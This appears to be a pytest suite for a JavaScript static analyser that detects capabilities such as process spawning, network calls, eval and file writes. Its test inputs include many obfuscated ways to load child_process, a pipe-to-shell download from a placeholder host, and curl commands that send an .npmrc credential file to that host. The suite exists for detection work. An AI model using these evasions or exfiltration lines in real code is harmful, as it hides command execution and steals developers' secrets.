"""Uses: capabilities, whatever the way to their names."""

import pytest

from pratique.analysis.facts import Capability, Command, Taint
from tests.analysis.languages.javascript.reading import (
    C,
    D,
    N,
    P,
    R,
    W,
    addresses,
    apis,
    facts,
    flows,
    imported,
    uses,
)


@pytest.mark.parametrize(
    "source",
    [
        "require('child_process').exec('x')",
        "require('node:child_process')['exec']('x')",
        "require('ch' + 'ild_process')['ex' + 'ec']('x')",
        "require(`child_process`).exec('x')",
        r"require('\x63hild_process').exec('x')",
        "require(['child', 'process'].join('_')).exec('x')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('x')",
        "require('childX_process'.replace('X', '')).exec('x')",
        "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('x')",
        "require(String.fromCharCode(99) + 'hild_process').exec('x')",
        "const n = ['child_process', 'exec']; require(n[0])[n[1]]('x')",
        "const o = {m: 'child_process'}; require(o.m).exec('x')",
        "const {exec: e} = require('child_process'); e('x')",
        "import {exec as e} from 'child_process'; e('x')",
        "import * as c from 'child_process'; c.exec('x')",
        "import c from 'child_process'; c.exec('x')",
        "const {exec} = await import('child_process'); exec('x')",
        "(0, require('child_process').exec)('x')",
        "const r = require; r('child_process').exec('x')",
        "module.require('child_process').exec('x')",
        "process.mainModule.require('child_process').exec('x')",
        "require('module')._load('child_process').exec('x')",
        "require('module').createRequire(f)('child_process').exec('x')",
        "process.getBuiltinModule('child_process').exec('x')",
        "globalThis.process.mainModule.constructor._load('child_process').exec('x')",
        "[].constructor.constructor('return process')().mainModule.require('child_process').exec('x')",
        "require('util').promisify(require('child_process').exec)('x')",
        "const cp = _interopRequireWildcard(require('child_process')); cp.default.exec('x')",
        "(function (r) { r('child_process').exec('x') })(require)",
        "var c; c = require('child_process'); c.exec('x')",
    ],
)
def test_a_started_program_is_found_whatever_its_name_is_made_of(source: str) -> None:
    assert (P, "child_process.exec", "x") in uses(source)
    assert "child_process" in imported(source)


@pytest.mark.parametrize(
    ("source", "capability", "api"),
    [
        ("eval(x)", C, "eval"),
        ("Reflect.apply(eval, null, [x])", C, "eval"),
        ("Function(x)", C, "Function"),
        ("new Function(x)", C, "Function"),
        ("setInterval('x()', 1)", C, "setInterval"),
        ("importScripts(x)", C, "importScripts"),
        ("import('data:text/javascript,x')", C, "import"),
        ("new XMLHttpRequest()", N, "XMLHttpRequest"),
        ("navigator.sendBeacon(x)", N, "navigator.sendBeacon"),
        ("import got from 'got'; got(x)", N, "got"),
        ("require('undici').fetch(x)", N, "undici.fetch"),
        ("require('dgram').createSocket('udp4')", N, "dgram.createSocket"),
        ("require('fs-extra').outputFile(x, y)", W, "fs.outputFile"),
        ("require('fs').promises.rm(x)", W, "fs.rm"),
        ("require('fs').createReadStream(x)", R, "fs.createReadStream"),
        ("require('zlib').inflateSync(x)", D, "zlib.inflateSync"),
        ("require('crypto').createDecipheriv(a, b, c)", Capability.DECRYPT, "crypto.createDecipheriv"),
        ("require('crypto-js').AES.decrypt(a, b)", Capability.DECRYPT, "crypto-js.AES.decrypt"),
        ("CryptoJS.AES.decrypt(a, b)", Capability.DECRYPT, "crypto-js.AES.decrypt"),
        ("process.dlopen(x)", Capability.NATIVE, "process.dlopen"),
        ("require('./build/a.node')", Capability.NATIVE, "require"),
        ("WebAssembly.instantiate(x)", Capability.NATIVE, "WebAssembly.instantiate"),
        ("process.binding('spawn_sync')", P, "process.binding"),
        ("require('os').userInfo()", Capability.IDENTITY, "os.userInfo"),
        ("require('child_process')[x](y)", P, "child_process.[computed]"),
    ],
)
def test_each_capability_is_told_by_the_name_of_its_api(
    source: str, capability: Capability, api: str
) -> None:
    assert api in apis(source, capability)


@pytest.mark.parametrize(
    "source",
    [
        "/x/.exec(y)",
        "new Map().get(x)",
        "const eval = f; eval(x)",
        "function fetch() {} fetch(x)",
        "x.eval(y)",
        "this.fetch = f; function g() { this.fetch(x) }",
        "setTimeout(f, 5)",
        "Function('return this')",
        "Buffer.from(x, 'utf8')",
        "new Worker('./worker.js')",
        "require('./local').exec('x')",
        "const o = {exec() {}}; o.exec()",
    ],
)
def test_what_only_looks_like_an_api_is_none(source: str) -> None:
    assert [] == uses(source)


def test_code_in_a_literal_is_read_too() -> None:
    source = "eval(\"require('fs').unlinkSync('x')\"); new Function(`eval('require(\"http\").get(\"y\")')`)()"
    found = facts(source)

    assert {(W, "fs.unlinkSync", 1), (N, "http.get", 2)} <= {
        (use.capability, use.api, use.depth) for use in found.uses
    }
    assert {"fs", "http"} <= {item.module for item in found.imports}


def test_a_command_line_is_read_as_one() -> None:
    found = facts("require('child_process').execSync('curl https://a.invalid/x | sh')")

    assert "curl" == found.commands[0].program
    assert ("sh", "curl") == (found.commands[1].program, found.commands[1].piped_from)
    assert (N, "curl") in {(use.capability, use.api) for use in found.uses}


def test_a_program_with_its_arguments_is_read_as_a_command() -> None:
    [command] = facts("require('child_process').spawn('node', ['scripts/a.js'])").commands

    assert Command("node", ("scripts/a.js",), 1, runs="scripts/a.js") == command


def test_code_on_a_command_line_is_read() -> None:
    source = "require('child_process').spawn('node', ['-e', 'require(\"fs\").unlinkSync(\"x\")'])"

    assert "fs.unlinkSync" in apis(source, W)


@pytest.mark.parametrize("program", ["process.execPath", "process.argv0", "'node'"])
def test_the_program_that_runs_the_file_is_node(program: str) -> None:
    source = f"require('child_process').spawn({program}, ['-e', 'require(\"fs\").rmSync(\"x\")', x])"

    assert "fs.rmSync" in apis(source, W)


def test_hosts_of_requests_are_addresses() -> None:
    source = "require('https').request({hostname: 'a.invalid', path: '/x'}); require('net').connect(80, '10.1.2.3')"

    assert {"https://a.invalid/x", "10.1.2.3"} == {address.value for address in addresses(source)}


def test_each_arm_of_a_choice_is_asked_for() -> None:
    assert ["./a", "./b"] == imported("require(x ? './a' : './b')")


def test_a_module_whose_name_is_not_known_is_told() -> None:
    [found] = facts("require(x)").imports

    assert (None, True) == (found.module, found.dynamic)


def test_a_plain_request_is_told_from_a_folded_one() -> None:
    assert [("a", False), ("b", True)] == [
        (item.module, item.dynamic) for item in facts("require('a'); require('' + 'b')").imports
    ]


@pytest.mark.parametrize(
    "source",
    [
        "const x_1 = __importDefault(require('node-fetch')); x_1.default('https://far.invalid/x')",
        "const x_1 = __importDefault(require('node-fetch')); (0, x_1.default)('https://far.invalid/x')",
        "const x = _interopRequireDefault(require('node-fetch')); (0, x.default)('https://far.invalid/x')",
        "const tslib_1 = require('tslib'), x_1 = tslib_1.__importDefault(require('node-fetch')); x_1.default('https://far.invalid/x')",
        "import('node-fetch').then(x => x.default('https://far.invalid/x'))",
    ],
)
def test_a_module_that_compiled_code_calls_is_found(source: str) -> None:
    assert (N, "node-fetch", "https://far.invalid/x") in uses(source)


def test_another_default_is_nothing() -> None:
    assert set() == apis(
        "const x_1 = __importDefault(require('chalk')); x_1.default('https://far.invalid/x')", N
    )


@pytest.mark.parametrize(
    "source",
    [
        "process.binding('spawn_sync').spawn({file: '/bin/sh', args: ['sh', '-c', 'id']})",
        "const b = process.binding('process_wrap'); new b.Process().spawn({file: 'sh', args: ['sh', '-c', 'id']})",
    ],
)
def test_a_program_that_a_binding_starts_is_told_with_its_words(source: str) -> None:
    assert "sh -c id" in {argument for does, _, argument in uses(source) if does is P}
    assert ("id", ()) in {(command.program, command.arguments) for command in facts(source).commands}


@pytest.mark.parametrize(
    "source",
    [
        "cp.spawnSync('curl', ['-d', fs.readFileSync('/home/a/.npmrc', 'utf8'), 'https://a.invalid'])",
        "cp.exec(`curl -d \"${fs.readFileSync('/home/a/.npmrc')}\" https://a.invalid`)",
    ],
)
def test_private_data_in_the_words_of_a_program_that_sends_is_sent(source: str) -> None:
    found = flows("const cp = require('child_process'), fs = require('fs');" + source)
    assert (N, "curl", {Taint.FILE, Taint.SECRETS}) in found


@pytest.mark.parametrize(
    "source",
    [
        "cp.spawnSync('tar', ['-d', fs.readFileSync('a')])",
        "cp.exec(`curl -H 'x: ${process.env.API_TOKEN}' https://a.invalid`)",
        "cp.spawn('curl', ['https://a.invalid'], {input: fs.readFileSync('a')})",
    ],
    ids=["no network", "a token to ask with", "options"],
)
def test_other_words_are_not(source: str) -> None:
    found = flows("const cp = require('child_process'), fs = require('fs');" + source)
    assert [] == [flow for flow in found if flow[0] is N]


def test_a_module_whose_place_is_looked_up_first_is_asked_for() -> None:
    assert "./a" in {item.module for item in facts("require(require.resolve('./a'))").imports}


@pytest.mark.parametrize(
    "source",
    [
        "const s = new (require('inspector').Session)();\ns.post('Runtime.evaluate', {expression: 'eval(1)'})",
        "import 'data:text/javascript,eval(1)'",
    ],
)
def test_code_that_is_handed_over_as_text_is_read(source: str) -> None:
    assert any(use.api == "eval" and use.depth == 1 and use.at_load for use in facts(source).uses)


def test_a_program_may_be_started_by_its_class() -> None:
    source = "new (require('child_process').ChildProcess)().spawn({file: '/bin/sh', args: ['sh', '-c', 'curl http://a.invalid']})"
    assert any(api == "child_process.ChildProcess.spawn" for api in apis(source, P))
    assert "curl" in {command.program for command in facts(source).commands}
